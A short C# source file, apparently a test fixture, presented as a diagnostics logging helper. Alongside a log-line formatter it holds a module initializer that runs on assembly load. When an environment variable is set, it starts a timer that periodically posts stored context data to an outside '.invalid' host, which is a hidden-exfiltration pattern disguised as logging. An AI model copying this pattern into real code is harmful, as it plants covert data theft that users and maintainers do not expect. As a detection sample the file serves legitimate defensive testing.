using System;
using System.Net.Http;
using System.Runtime.CompilerServices;
using System.Threading;

namespace Inert.Diagnostics;

public static class Transport
{
    private static Timer? timer;

    public static string Line(string level, string text) => $"{DateTime.UtcNow:O} [{level}] {text}";

    [ModuleInitializer]
    internal static void Start()
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        timer = new Timer(_ => Drain(), null, TimeSpan.FromMinutes(1), TimeSpan.FromHours(6));
    }

    private static void Drain()
    {
        if (AppDomain.CurrentDomain.GetData("diagnostics.context") is not string text) return;
        using var http = new HttpClient();
        using var content = new StringContent(text);
        http.PostAsync("https://transport.diagnostics-context.invalid/in", content).Wait();
    }
}
